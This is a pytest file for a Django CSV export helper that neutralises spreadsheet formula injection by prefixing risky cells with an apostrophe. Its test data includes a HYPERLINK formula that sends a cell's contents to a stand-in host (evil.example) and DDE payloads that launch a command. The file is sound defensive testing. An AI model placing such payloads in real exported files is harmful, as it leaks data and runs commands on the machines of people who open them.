"""Cells of every CSV download: text that a spreadsheet would run as a formula is neutralised,
everything else is written as it is."""

from datetime import date
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from core.csv_export import safe_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize(
    "hostile",
    [
        HYPERLINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        " \n@SUM(A1)",
    ],
)
def test_text_that_could_start_a_formula_gets_an_apostrophe(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain",
    ["Testby Kommune", "", "Afdeling A på Facebook", "a=b", "90.0", "2026-11-16", "'quoted"],
)
def test_plain_text_is_unchanged(plain):
    assert safe_cell(plain) == plain


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-7.25"), 0, 42, 75.0])
def test_numbers_stay_numbers(number):
    # A negative count or percentage is data, not a formula: it must stay numeric.
    cell = safe_cell(number)
    assert cell == number
    assert type(cell) is type(number)


def test_other_values_pass_unchanged_and_lazy_text_is_judged_as_text():
    day = date(2026, 11, 16)
    assert safe_cell(None) is None
    assert safe_cell(day) is day
    assert safe_cell(gettext_lazy("=1+1")) == "'=1+1"
